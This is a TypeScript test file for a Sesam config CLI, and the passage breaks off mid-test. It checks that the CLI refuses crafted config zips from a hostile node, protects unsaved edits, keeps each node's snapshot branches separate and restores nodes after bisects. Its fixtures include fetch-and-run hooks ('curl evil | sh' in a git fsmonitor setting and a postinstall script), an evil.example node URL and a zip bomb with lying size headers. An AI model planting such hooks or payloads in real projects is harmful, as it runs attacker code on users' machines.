// Fault injection for what a node sends and what the project holds: a hostile fake node serving crafted config
// zips, unsaved local edits, a project entered from a subfolder, snapshot branches of different nodes, and bisects
// whose endpoints lie. Every case states what must not happen (a file written, work lost, histories mixed) and
// that the user gets one clear error line.
import { deflateSync } from 'fflate';
import { HttpResponse, http, passthrough } from 'msw';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { spawn } from 'node:child_process';
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { bisectWith, type BisectDeps } from '../../src/commands/bisect.js';
import { findProjectRoot } from '../../src/config/project-root.js';
import { nodeLabel } from '../../src/config/settings.js';
import { nodeError } from '../../src/errors.js';
import { encodeOriginal } from '../../src/snapshots/bisect.js';
import { projectFilesAt } from '../../src/snapshots/project-files.js';
import { pushConfig, revisionConfig } from '../../src/snapshots/restore.js';
import { openStore } from '../../src/snapshots/store.js';
import { formatJson } from '../../src/format/portal.js';
import { recordSnapshot } from '../../src/snapshots/record.js';
import { zipLimits } from '../../src/workspace/zip.js';
import { commandContext, createRepo, type FixtureRepo } from '../helpers/git-fixture.js';
import { runMain, type MainResult } from '../helpers/run-main.js';
import { readTree, tempProject } from '../helpers/tmp.js';
import { FAKE_URL, useFakeNode, useFastTimings } from '../helpers/msw-node.js';
import { BIN, type CliResult, DUMMY_JWT, hasBuild, startServe } from '../e2e/cli.js';
import { cliIn, nodeHttp, projectRepo } from '../e2e/fixtures-snapshots.js';
import { FakeNode as SnapshotFakeNode } from '../snapshots/fake-node.js';
import { pipe, quietLog, recordVersions } from '../snapshots/history-fixture.js';

/** A commit's project files. */
async function filesOf(repo: FixtureRepo, commit: string) {
  const store = await openStore(repo.dir, { env: repo.env });
  try {
    return await projectFilesAt(store, commit, repo.dir, 'test');
  } finally {
    await store.close();
  }
}

const node = useFakeNode();
useFastTimings({ timeoutMs: 500 });

interface CraftedEntry {
  name: string | Uint8Array;
  data: string | Uint8Array;
  /** Uncompressed size written into the headers (default: the real one). */
  declaredSize?: number;
  /** Set the UTF-8 name flag (default: true for string names). */
  utf8Flag?: boolean;
}

/** A zip written byte by byte, so it can hold what no zip library writes: duplicates, raw names, lying sizes. */
function craftZip(entries: CraftedEntry[]): Uint8Array {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = typeof entry.name === 'string' ? Buffer.from(entry.name, 'utf8') : Buffer.from(entry.name);
    const raw = typeof entry.data === 'string' ? Buffer.from(entry.data, 'utf8') : Buffer.from(entry.data);
    const packed = Buffer.from(deflateSync(raw));
    const flags = (entry.utf8Flag ?? typeof entry.name === 'string') ? 0x800 : 0;
    const size = entry.declaredSize ?? raw.length;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(flags, 6);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(flags, 8);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(packed.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, packed);
    centrals.push(central, name);
    offset += local.length + name.length + packed.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return new Uint8Array(Buffer.concat([...locals, directory, end]));
}

const PIPE = '{"_id": "a", "type": "pipe"}';

/** Make GET /config answer with these bytes. */
function serveConfigZip(zip: Uint8Array): void {
  node.server.use(
    http.get(
      `${FAKE_URL}/config`,
      () => new HttpResponse(zip as Uint8Array<ArrayBuffer>, { headers: { 'Content-Type': 'application/zip' } }),
    ),
  );
}

function project() {
  return tempProject({
    'pipes/a.conf.json': '{"_id": "a", "type": "pipe", "local": true}\n',
    'node-metadata.conf.json': '{"_id": "node", "type": "metadata"}\n',
    'test-env.json': '{"node-env": "local"}\n',
    'expected/a.json': '[]\n',
    'package.json': '{"name": "mine"}\n',
  });
}

/** The error lines of a run made with --logformat log (which prefixes every line with its level). */
function errorLines(r: MainResult): string[] {
  return r.stderr.split('\n').filter((line) => line.includes(' - ERROR - '));
}

/** download against a node serving `zip`: a node error naming `names`, and not one byte of the project changed. */
async function expectRefused(zip: Uint8Array, names: RegExp, command = ['download', '--no-snapshot']) {
  node.envVars = { 'node-env': 'node' };
  serveConfigZip(zip);
  const cwd = project();
  const before = readTree(cwd);
  const r = await runMain([...command, '--logformat', 'log'], { cwd, env: node.env() });
  expect(r.code, r.stderr).toBe(3);
  expect(errorLines(r), r.stderr).toHaveLength(1);
  expect(r.stderr).toMatch(names);
  expect(readTree(cwd)).toEqual(before);
  return r;
}

describe('a hostile node cannot write outside the config files', () => {
  const planted: [string, string][] = [
    ['.git/config', '[core]\n\tfsmonitor = "curl evil | sh"\n'],
    ['.github/workflows/x.yml', 'on: push\njobs: {}\n'],
    ['.syncconfig', 'NODE=https://evil.example\nJWT=x\n'],
    ['.sesam/secrets.json', '{"password": "stolen"}'],
    ['package.json', '{"scripts": {"postinstall": "curl evil | sh"}}'],
    ['expected/a.json', '[{"_id": "forged"}]\n'],
    ['pipes/sub/nested.conf.json', PIPE],
    ['pipes/.hidden.conf.json', PIPE],
    ['pipes/a.json', PIPE],
  ];
  for (const [name, data] of planted) {
    it(`refuses a config zip holding ${name}, writing nothing`, async () => {
      const zip = craftZip([
        { name: 'pipes/a.conf.json', data: PIPE },
        { name, data },
      ]);
      await expectRefused(zip, new RegExp(`'${name.replace(/\./g, '\\.')}'`));
    });
  }

  it('refuses a name with a control character', async () => {
    await expectRefused(craftZip([{ name: 'pipes/a\nb.conf.json', data: PIPE }]), /control character/);
  });

  it('refuses a name that is not UTF-8', async () => {
    const name = new Uint8Array([...Buffer.from('pipes/'), 0xff, 0xfe, ...Buffer.from('.conf.json')]);
    await expectRefused(craftZip([{ name, data: PIPE, utf8Flag: false }]), /not valid UTF-8/);
  });

  it('refuses a zip that holds one entry twice (the second would win silently)', async () => {
    const zip = craftZip([
      { name: 'pipes/a.conf.json', data: PIPE },
      { name: 'pipes/a.conf.json', data: '{"_id": "a", "type": "pipe", "evil": true}' },
    ]);
    await expectRefused(zip, /duplicate entry 'pipes\/a\.conf\.json'/);
  });

  it('refuses entries that differ only in case (one file on macOS and Windows)', async () => {
    const zip = craftZip([
      { name: 'pipes/a.conf.json', data: PIPE },
      { name: 'pipes/A.conf.json', data: '{"_id": "A", "type": "pipe"}' },
    ]);
    await expectRefused(zip, /differ only in case/);
  });

  it('refuses an entry that is not a JSON object', async () => {
    await expectRefused(craftZip([{ name: 'pipes/a.conf.json', data: '[1, 2]' }]), /pipes\/a\.conf\.json/);
  });

  it('refuses an entry whose bytes are not UTF-8', async () => {
    const data = new Uint8Array([...Buffer.from('{"_id": "a", "x": "'), 0xff, ...Buffer.from('"}')]);
    await expectRefused(craftZip([{ name: 'pipes/a.conf.json', data }]), /pipes\/a\.conf\.json/);
  });

  it('status refuses a hostile zip too', async () => {
    await expectRefused(craftZip([{ name: '.git/hooks/pre-commit', data: '{}' }]), /\.git\/hooks\/pre-commit/, [
      'status',
    ]);
  });
});

describe('a hostile node cannot exhaust memory with its config zip', () => {
  const saved = { ...zipLimits };
  afterEach(() => Object.assign(zipLimits, saved));

  it('stops inflating a zip bomb whose headers lie about its size', async () => {
    zipLimits.maxTotalBytes = 1024 * 1024;
    const bomb = new Uint8Array(8 * 1024 * 1024); // 8 MiB of zeros: a few KiB deflated
    await expectRefused(
      craftZip([{ name: 'pipes/a.conf.json', data: bomb, declaredSize: 100 }]),
      /entry 'pipes\/a\.conf\.json' does not inflate to the 100 bytes its header declares/,
    );
  });

  it('stops inflating a large entry at the cap, whatever its header says', async () => {
    zipLimits.maxTotalBytes = 1024 * 1024;
    // Random bytes do not compress: the entry is larger than the one-call limit and inflated in steps.
    const noise = new Uint8Array(2 * 1024 * 1024).map(() => Math.floor(Math.random() * 256));
    await expectRefused(
      craftZip([{ name: 'pipes/a.conf.json', data: noise, declaredSize: 100 }]),
      /pipes\/a\.conf\.json.*larger than 1048576 bytes/,
    );
  });

  it('caps the total over many entries', async () => {
    zipLimits.maxTotalBytes = 1024 * 1024;
    const part = `{"_id": "x", "pad": "${'x'.repeat(400 * 1024)}"}`;
    const entries = [1, 2, 3].map((i) => ({ name: `pipes/p${i}.conf.json`, data: part }));
    await expectRefused(craftZip(entries), /pipes\/p3\.conf\.json.*larger than/);
  });

  it('caps the number of entries', async () => {
    zipLimits.maxEntries = 50;
    const entries = Array.from({ length: 51 }, (_, i) => ({ name: `pipes/p${i}.conf.json`, data: PIPE }));
    await expectRefused(craftZip(entries), /too many entries \(51; at most 50\)/);
  });
});

describe('snapshot branches never mix nodes', () => {
  const versionA = { 'pipes/a.conf.json': '{"_id": "a", "type": "pipe"}\n' };
  const versionB = { 'pipes/b.conf.json': '{"_id": "b", "type": "pipe"}\n' };
  const quiet = quietLog();

  async function record(repo: FixtureRepo, nodeUrl: string) {
    return recordSnapshot({
      projectDir: repo.dir,
      command: 'download',
      nodeLabel: nodeLabel(nodeUrl),
      nodeUrl,
      profile: 'test',
      log: quiet,
      env: repo.env,
    });
  }

  it('two ports of one host, and two hosts sharing a first label, get a branch each', async () => {
    const repo = createRepo({ 'README.md': 'x' });
    const urls = [
      'http://127.0.0.1:19042/api',
      'http://127.0.0.1:19043/api',
      'https://dev.a.com/api',
      'https://dev.b.com/api',
    ];
    const branches = [];
    for (const url of urls) {
      repo.write({ 'pipes/a.conf.json': `{"_id": "a", "from": ${JSON.stringify(url)}}\n` });
      branches.push((await record(repo, url)).branch);
    }
    expect(branches).toEqual([
      'sesam-snapshots/127.0.0.1-19042',
      'sesam-snapshots/127.0.0.1-19043',
      'sesam-snapshots/dev.a.com',
      'sesam-snapshots/dev.b.com',
    ]);
    // Each branch holds one snapshot: no node's history continues another's.
    for (const branch of branches) expect(repo.git('rev-list', '--count', branch).trim()).toBe('1');
  });

  it("continues a node's history from the first release's branch, and log still finds it", async () => {
    const repo = createRepo({ 'README.md': 'x' });
    const url = 'https://dev.a.com/api';
    // The first release recorded dev.a.com and dev.b.com on one branch, `dev`.
    const [oldA] = await recordVersions(repo, [versionA], { label: 'dev', nodeUrl: url, legacyBranch: true });
    const [oldB] = await recordVersions(repo, [versionB], {
      label: 'dev',
      nodeUrl: 'https://dev.b.com/api',
      legacyBranch: true,
      start: 5,
    });
    repo.write({ ...versionA, 'pipes/c.conf.json': '{"_id": "c", "type": "pipe"}\n' });
    const next = await record(repo, url);
    expect(next.branch).toBe('sesam-snapshots/dev.a.com');
    // Parent: dev.a.com's own newest snapshot on `dev`, not dev.b.com's newer one.
    expect(repo.git('rev-parse', `${next.commit}^`).trim()).toBe(oldA);
    expect(repo.git('rev-parse', 'sesam-snapshots/dev').trim()).toBe(oldB);

    const log = await runMain(['log', '--json', '--node', url], { cwd: repo.dir, env: repo.env });
    expect(log.code, log.stderr).toBe(0);
    expect(JSON.parse(log.stdout).snapshots.map((s: { commit: string }) => s.commit)).toEqual([next.commit, oldA]);
    const logB = await runMain(['log', '--json', '--node', 'https://dev.b.com/api'], { cwd: repo.dir, env: repo.env });
    expect(JSON.parse(logB.stdout).snapshots.map((s: { commit: string }) => s.commit)).toEqual([oldB]);
  });

  it('records nothing new when the files equal the last snapshot on the old branch', async () => {
    const repo = createRepo({ 'README.md': 'x' });
    const url = 'http://127.0.0.1:19042/api';
    await recordVersions(repo, [versionA], { label: '127.0.0.1', nodeUrl: url, legacyBranch: true });
    repo.write(versionA);
    const result = await record(repo, url);
    expect(result.commit).toBeUndefined();
    expect(result.reason).toMatch(/no changes since snapshot/);
  });
});

describe('a command started in a subfolder works on the project around it', () => {
  const pipeA = { _id: 'a', type: 'pipe', source: { type: 'embedded', entities: [] } };

  it('download in pipes/ writes pipes/ at the project root and snapshots the whole project', async () => {
    const repo = createRepo({
      'pipes/a.conf.json': formatJson(pipeA),
      'node-metadata.conf.json': '{"_id": "node", "type": "metadata"}\n',
      'expected/a.json': '[]\n',
      'test-env.json': '{}\n',
    });
    node.setConfig([pipeA, { _id: 'b', type: 'pipe' }]);
    const r = await runMain(['download'], { cwd: join(repo.dir, 'pipes'), env: { ...repo.env, ...node.env() } });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toContain(`Using ${repo.dir} as the project folder`);
    const tree = readTree(repo.dir);
    expect(Object.keys(tree).filter((p) => p.startsWith('pipes/pipes'))).toEqual([]);
    expect(tree['pipes/b.conf.json']).toBeDefined();
    const files = repo.git('ls-tree', '-r', '--name-only', 'sesam-snapshots/datahub-fake0001.sesam.cloud');
    expect(files.split('\n')).toContain('expected/a.json');
  });

  it('status in expected/ compares the project config', async () => {
    const cwd = tempProject({
      'pipes/a.conf.json': formatJson(pipeA),
      'expected/a.json': '[]\n',
      'test-env.json': '{}\n',
    });
    node.setConfig([pipeA]);
    const r = await runMain(['status', '--exit-code'], { cwd: join(cwd, 'expected'), env: node.env() });
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.stdout).toContain('Sesam config is up-to-date with local config!');
  });

  it('never climbs out of the git work tree it starts in', async () => {
    const outer = tempProject({ 'pipes/outer.conf.json': '{"_id": "outer", "type": "pipe"}\n' });
    const inner = join(outer, 'inner');
    mkdirSync(join(inner, '.git'), { recursive: true });
    expect(findProjectRoot(inner)).toBe(inner);
    expect(findProjectRoot(join(outer, 'pipes'))).toBe(outer);
  });
});

describe('download and restore --write never overwrite unsaved local work', () => {
  const pipeA = { _id: 'a', type: 'pipe', source: { type: 'embedded', entities: [] } };
  const pipeA2 = { ...pipeA, description: 'edited in the portal' };
  const committed = {
    'pipes/a.conf.json': formatJson(pipeA),
    'node-metadata.conf.json': '{"_id": "node", "type": "metadata"}\n',
    'test-env.json': '\uFEFF{}\n',
  };
  const edit = '{"_id": "a", "type": "pipe", "my": "unsaved work"}\n';

  async function download(repo: FixtureRepo, ...flags: string[]) {
    return runMain(['download', '--logformat', 'log', ...flags], {
      cwd: repo.dir,
      env: { ...repo.env, ...node.env() },
    });
  }

  it('download refuses to overwrite an edited file that is in no commit and no snapshot, naming it', async () => {
    const repo = createRepo(committed);
    repo.write({ 'pipes/a.conf.json': edit });
    node.setConfig([pipeA2]);
    const before = readTree(repo.dir);
    const r = await download(repo);
    expect(r.code, r.stderr).toBe(2);
    expect(errorLines(r)).toHaveLength(1);
    expect(errorLines(r)[0]).toContain(
      'download would overwrite local edits that are in no commit and no snapshot: pipes/a.conf.json',
    );
    expect(r.stderr).toContain('--force');
    expect(readTree(repo.dir)).toEqual(before);
  });

  it('download refuses to delete a staged new file the node does not have', async () => {
    const repo = createRepo(committed);
    repo.write({ 'pipes/new.conf.json': '{"_id": "new", "type": "pipe"}\n' });
    repo.git('add', 'pipes/new.conf.json');
    node.setConfig([pipeA]);
    const r = await download(repo);
    expect(r.code, r.stderr).toBe(2);
    expect(errorLines(r)[0]).toMatch(/no snapshot: pipes\/new\.conf\.json; nothing was changed/);
    expect(readTree(repo.dir)['pipes/new.conf.json']).toBeDefined();
  });

  it('download --force overwrites them', async () => {
    const repo = createRepo(committed);
    repo.write({ 'pipes/a.conf.json': edit });
    node.setConfig([pipeA2]);
    const r = await download(repo, '--force');
    expect(r.code, r.stderr).toBe(0);
    expect(readTree(repo.dir)['pipes/a.conf.json']).toBe(formatJson(pipeA2));
  });

  it('download replaces files that an earlier snapshot holds, committed or not', async () => {
    const repo = createRepo({ 'README.md': 'x' });
    node.setConfig([pipeA]);
    expect((await download(repo)).code).toBe(0); // nothing committed, but now in a snapshot
    node.setConfig([pipeA2]);
    const r = await download(repo);
    expect(r.code, r.stderr).toBe(0);
    expect(readTree(repo.dir)['pipes/a.conf.json']).toBe(formatJson(pipeA2));
  });

  it('restore --write refuses before uploading anything', async () => {
    const repo = createRepo({ 'README.md': 'x' });
    node.setConfig([pipeA]);
    expect((await download(repo)).code).toBe(0);
    const first = repo.git('rev-parse', 'sesam-snapshots/datahub-fake0001.sesam.cloud').trim();
    node.setConfig([pipeA2]);
    expect((await download(repo)).code).toBe(0);
    repo.write({ 'pipes/a.conf.json': edit });
    const uploads = node.configUploads.length;
    const before = readTree(repo.dir);
    const r = await runMain(['restore', first, '--write', '--yes', '--logformat', 'log'], {
      cwd: repo.dir,
      env: { ...repo.env, ...node.env() },
    });
    expect(r.code, r.stderr).toBe(2);
    expect(errorLines(r)[0]).toContain('restore --write would overwrite local edits');
    expect(errorLines(r)[0]).toContain('pipes/a.conf.json');
    expect(node.configUploads.length).toBe(uploads);
    expect(readTree(repo.dir)).toEqual(before);
  });
});

describe('bisect trusts neither its endpoints nor an uninterrupted run', () => {
  const expectedFile = '[{"_id": "1", "v": "ok"}]';

  /** Snapshots 0..count-1 of pipe p; from `firstBad` on it is broken. */
  async function bisectRepo(firstBad: number, count = 6) {
    const repo = createRepo({ 'README.md': 'x', 'expected/p.json': expectedFile, 'expected/p.test.json': '{}' });
    const versions = Array.from({ length: count }, (_, i) => ({
      'pipes/p.conf.json': pipe('p', { version: i, ...(i >= firstBad ? { broken: true } : {}) }),
      'expected/p.json': expectedFile,
      'test-env.json': JSON.stringify({ version: String(i) }),
    }));
    return { repo, snaps: await recordVersions(repo, versions, { label: 'dev' }) };
  }

  /** A node holding pipe `original`; verify fails while a broken p is on it. Records the config of every run. */
  function bisectNode() {
    const fake = new SnapshotFakeNode('dev', { 'pipes/original.conf.json': pipe('original') }, { original: true });
    const runs: string[][] = [];
    const deps: BisectDeps = {
      connect: async () => fake,
      runPipes: async () => {
        runs.push([...fake.config().keys()]);
        return {};
      },
      verifyProject: async () => ({ failed: fake.pipe('p')?.broken === true ? 1 : 0, missing: [] }),
    };
    return { fake, deps, runs, original: fake.configZip };
  }

  const noFlags = { enableUserPipes: false, disableCppExtensions: false, enableEagerMs: false };
  const bisectCtx = (repo: FixtureRepo, good: string, bad: string, args: string[] = []) =>
    commandContext(repo.dir, repo.env, { good, bad }, { args });

  it('stops when --good fails verify, puts the node back and forgets the bisect', async () => {
    const { repo, snaps } = await bisectRepo(0);
    const { fake, deps, original } = bisectNode();
    const error = await bisectWith(bisectCtx(repo, snaps[0]!, snaps.at(-1)!), deps).catch((e) => e);
    expect(error).toMatchObject({ kind: 'usage' });
    expect(error.message).toBe(
      `--good ${snaps[0]} (${snaps[0]!.slice(0, 7)}) is not good: 1 test fails against expected/ at ${snaps[0]!.slice(0, 7)}; the bisect stopped`,
    );
    expect(fake.configZip).toBe(original);
    expect(existsSync(join(repo.dir, '.git', 'sesam-bisect.json'))).toBe(false);
  });

  it('stops when --bad passes verify', async () => {
    const { repo, snaps } = await bisectRepo(99);
    const { fake, deps, original } = bisectNode();
    await expect(bisectWith(bisectCtx(repo, snaps[0]!, snaps.at(-1)!), deps)).rejects.toMatchObject({
      kind: 'usage',
      message: expect.stringMatching(/^--bad .* is not bad: every test passes against expected\/ at/),
    });
    expect(fake.configZip).toBe(original);
  });

  it('stops when --good cannot be tested', async () => {
    const { repo, snaps } = await bisectRepo(3);
    const { fake, deps } = bisectNode();
    fake.rejectConfig = (entries) =>
      Buffer.from(entries.get('pipes/p.conf.json') ?? [])
        .toString()
        .includes('"version": 0')
        ? 'invalid'
        : undefined;
    await expect(bisectWith(bisectCtx(repo, snaps[0]!, snaps.at(-1)!), deps)).rejects.toMatchObject({
      kind: 'untestable',
      message: expect.stringContaining('Could not test --good'),
    });
  });

  it('runs the pipes again after putting the original configuration back, so the datasets match it', async () => {
    const { repo, snaps } = await bisectRepo(3);
    const { fake, deps, runs, original } = bisectNode();
    const ctx = bisectCtx(repo, snaps[0]!, snaps.at(-1)!);
    await bisectWith(ctx, deps);
    expect(ctx.stdout()).toContain(`First bad snapshot: ${snaps[3]!.slice(0, 7)}`);
    expect(fake.configZip).toBe(original);
    expect(runs.at(-1)).toEqual(['pipes/original.conf.json']);
  });

  it('exits non-zero and says so when the pipes cannot run after the put-back', async () => {
    const { repo, snaps } = await bisectRepo(3);
    const { fake, deps, original } = bisectNode();
    const run = deps.runPipes;
    deps.runPipes = async (ctx, api) => {
      if (fake.configZip === original) throw nodeError('pipe original failed');
      return run(ctx, api);
    };
    await expect(bisectWith(bisectCtx(repo, snaps[0]!, snaps.at(-1)!), deps)).rejects.toMatchObject({
      kind: 'node',
      message: expect.stringContaining('running its pipes failed'),
      hint: "run 'sesam run' to refresh them",
    });
    expect(fake.configZip).toBe(original);
  });

  it("other commands warn while an interrupted bisect left the node on a candidate; 'bisect reset' repairs it", async () => {
    const { repo, snaps } = await bisectRepo(3);
    const { fake, deps, runs, original } = bisectNode();
    // A bisect killed while snapshot 2 was on the node.
    await pushConfig(fake, revisionConfig(await filesOf(repo, snaps[2]!), { profile: 'test', flags: noFlags }), {
      force: true,
    });
    const state = {
      version: 1,
      good: snaps[0],
      bad: snaps.at(-1),
      expectedAt: snaps[0],
      node: 'datahub-fake0001.sesam.cloud',
      candidates: snaps.slice(1),
      verdicts: {},
      original: encodeOriginal({ configZip: original, env: { original: true } }),
      nodeRestored: false,
      current: snaps[2],
    };
    writeFileSync(join(repo.dir, '.git', 'sesam-bisect.json'), JSON.stringify(state));
    node.setConfig([{ _id: 'p', type: 'pipe' }]);
    const status = await runMain(['status'], { cwd: repo.dir, env: { ...repo.env, ...node.env() } });
    expect(status.stderr).toContain(
      `An interrupted bisect left datahub-fake0001 with the configuration of snapshot ${snaps[2]!.slice(0, 7)}; run 'sesam bisect reset' to put its original configuration back.`,
    );

    writeFileSync(join(repo.dir, '.git', 'sesam-bisect.json'), JSON.stringify({ ...state, node: 'dev.sesam.cloud' }));
    const ctx = commandContext(repo.dir, repo.env, {}, { args: ['reset'] });
    await bisectWith(ctx, deps);
    expect(Buffer.from(fake.configZip).equals(Buffer.from(original))).toBe(true);
    expect(fake.env).toEqual({ original: true });
    expect(runs.at(-1)).toEqual(['pipes/original.conf.json']);
    expect(existsSync(join(repo.dir, '.git', 'sesam-bisect.json'))).toBe(false);
    expect(ctx.stderr()).toContain('Ended the bisect; dev.sesam.cloud has its original configuration back.');
  });
});

/** A loopback HTTP proxy to `target` that calls `hold` before forwarding each request. */
async function forwardTo(
  target: string,
  hold: (req: IncomingMessage) => Promise<void>,
): Promise<{ url: string; close(): Promise<void> }> {
  const server = createServer(async (req, res) => {
    const chunks: Buffer[] = [];
    for await (const chunk of req) chunks.push(chunk as Buffer);
    await hold(req);
    const headers: Record<string, string> = {};
    for (const name of ['authorization', 'accept', 'content-type'])
      if (req.headers[name]) headers[name] = String(req.headers[name]);
    const body = chunks.length ? Buffer.concat(chunks) : undefined;
    const answer = await fetch(`${target}${req.url}`, { method: req.method, headers, body });
    res.writeHead(answer.status, { 'content-type': answer.headers.get('content-type') ?? 'application/json' });
    res.end(Buffer.from(await answer.arrayBuffer()));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

/** This file's fake node (msw) would intercept the test's own requests to a real node on loopback. */
function letThrough(url: string): void {
  node.server.use(http.all(`${url}/*`, () => passthrough()));
}

describe.skipIf(!hasBuild)('bisect over HTTP with the built CLI: datasets and a second Ctrl-C', () => {
  let server: Awaited<ReturnType<typeof startServe>>;
  let repo: FixtureRepo;
  let api: ReturnType<typeof nodeHttp>;
  let cli: (...args: string[]) => Promise<CliResult>;
  const snapshots: string[] = [];
  const source = {
    _id: 'src',
    type: 'pipe',
    source: { type: 'embedded', entities: [{ _id: 'a' }, { _id: 'b' }] },
  };
  // `mid` writes a dataset that `out` publishes: stale datasets show in what verify reads.
  const mid = (v: number) => ({
    _id: 'mid',
    type: 'pipe',
    source: { type: 'dataset', dataset: 'src' },
    transform: {
      type: 'dtl',
      rules: {
        default: [
          ['copy', '*'],
          ['add', 'v', v],
        ],
      },
    },
  });
  const output = (v: number) => [
    mid(v),
    { _id: 'out', type: 'pipe', source: { type: 'dataset', dataset: 'mid' }, sink: { type: 'http_endpoint' } },
  ];

  beforeAll(async () => {
    repo = projectRepo();
    server = await startServe(repo.dir);
    letThrough(server.url);
    api = nodeHttp(server.url);
    cli = cliIn(repo, server.url);
    await api.put('/env', {});
    for (const [i, v] of [1, 2, 2].entries()) {
      await api.put('/config', [{ ...source, description: `edit ${i}` }, ...output(v)]);
      if (i === 0) {
        expect((await cli('run')).code).toBe(0);
        expect((await cli('update', '--no-snapshot')).code).toBe(0);
      }
      const r = await cli('download', '--json');
      expect(r.code, r.stderr).toBe(0);
      snapshots.push(JSON.parse(r.stdout).snapshot.commit);
    }
    // The node runs the good configuration, and verify passes, before any bisect.
    await api.put('/config', [{ ...source, description: 'edit 0' }, ...output(1)]);
    expect((await cli('run')).code).toBe(0);
  }, 120_000);
  afterAll(async () => server?.stop());
  beforeEach(() => letThrough(server.url));

  it('leaves the datasets as they were: verify passes after a bisect as it did before', async () => {
    expect((await cli('verify')).code).toBe(0);
    const r = await cli('bisect', '--good', snapshots[0]!, '--bad', snapshots[2]!);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain(`First bad snapshot: ${snapshots[1]!.slice(0, 7)}`);
    const verify = await cli('verify');
    expect(verify.code, verify.stdout + verify.stderr).toBe(0);
  }, 60_000);

  it('a second Ctrl-C does not stop the bisect from putting the node back', async () => {
    await api.put('/config', [{ ...source, description: 'original' }, ...output(1)]);
    const zipBefore = await api.configZip();
    // Between the CLI and the node: holds the second PUT /config (the put-back) until the second Ctrl-C is handled.
    let putBackArrived: () => void = () => {};
    const putBack = new Promise<void>((resolve) => (putBackArrived = resolve));
    let release: () => void = () => {};
    const released = new Promise<void>((resolve) => (release = resolve));
    const proxy = await forwardTo(server.url, async (req) => {
      if (req.method === 'PUT' && req.url?.split('?')[0] === '/api/config' && ++puts === 2) {
        putBackArrived();
        await released;
      }
    });
    let puts = 0;
    const child = spawn(
      process.execPath,
      [BIN, '--node', proxy.url, '--jwt', DUMMY_JWT, 'bisect', '--good', snapshots[0]!, '--bad', snapshots[2]!],
      { cwd: repo.dir, env: { ...repo.env, NO_COLOR: '1' }, stdio: ['ignore', 'pipe', 'pipe'] },
    );
    let stderr = '';
    const exited = new Promise<{ code: number | null; signal: string | null }>((resolve) =>
      child.on('exit', (code, signal) => resolve({ code, signal })),
    );
    const seen = (pattern: RegExp) =>
      new Promise<void>((resolve) => {
        const check = () => pattern.test(stderr) && resolve();
        child.stderr.on('data', (d: Buffer) => {
          stderr += d.toString();
          check();
        });
        check();
      });
    await seen(/Checking --good|Step 1: testing/);
    child.kill('SIGINT');
    await putBack;
    child.kill('SIGINT');
    await Promise.race([seen(/Still putting things back/), exited]);
    release();
    const { code, signal } = await exited;
    await proxy.close();
    expect({ code, signal }, stderr).toEqual({ code: 130, signal: null });
    expect((await api.configZip()).equals(zipBefore)).toBe(true);
    // Interrupted, the bisect is kept for resuming; the node is not left on a candidate.
    const state = JSON.parse(readFileSync(join(repo.dir, '.git', 'sesam-bisect.json'), 'utf8'));
    expect(state.nodeRestored).toBe(true);
  }, 60_000);
});

describe('restore reads the node config zip as untrusted too', () => {
  it('refuses a node config zip with a duplicate entry before uploading anything', async () => {
    const repo = createRepo({ 'README.md': 'x' });
    node.setConfig([{ _id: 'a', type: 'pipe' }]);
    const first = await runMain(['download'], { cwd: repo.dir, env: { ...repo.env, ...node.env() } });
    expect(first.code, first.stderr).toBe(0);
    serveConfigZip(
      craftZip([
        { name: 'pipes/a.conf.json', data: PIPE },
        { name: 'pipes/a.conf.json', data: PIPE },
      ]),
    );
    const uploads = node.configUploads.length;
    const r = await runMain(
      ['restore', 'sesam-snapshots/datahub-fake0001.sesam.cloud', '--yes', '--logformat', 'log'],
      {
        cwd: repo.dir,
        env: { ...repo.env, ...node.env() },
      },
    );
    expect(r.code, r.stderr).toBe(3);
    expect(errorLines(r)).toHaveLength(1);
    expect(r.stderr).toContain("duplicate entry 'pipes/a.conf.json'");
    expect(node.configUploads.length).toBe(uploads);
  });
});

describe('interrupted and concurrent downloads', () => {
  const pipeA = { _id: 'a', type: 'pipe', source: { type: 'embedded', entities: [] } };

  it('Ctrl-C while the config zip arrives leaves every local file as it was', async () => {
    const cwd = project();
    const before = readTree(cwd);
    const controller = new AbortController();
    node.server.use(
      http.get(`${FAKE_URL}/config`, async () => {
        controller.abort();
        await new Promise((r) => setTimeout(r, 50));
        return new HttpResponse(craftZip([{ name: 'pipes/a.conf.json', data: PIPE }]) as Uint8Array<ArrayBuffer>, {
          headers: { 'Content-Type': 'application/zip' },
        });
      }),
    );
    const r = await runMain(['download', '--no-snapshot'], { cwd, env: node.env(), signal: controller.signal });
    expect(r.code, r.stderr).toBe(130);
    expect(readTree(cwd)).toEqual(before);
  });

  it('two downloads at once leave the node config on disk and one snapshot', async () => {
    const repo = createRepo({ 'README.md': 'x' });
    node.setConfig([pipeA, { _id: 'b', type: 'pipe' }]);
    const env = { ...repo.env, ...node.env() };
    const results = await Promise.all([1, 2].map(() => runMain(['download'], { cwd: repo.dir, env })));
    for (const r of results) expect(r.code, r.stderr).toBe(0);
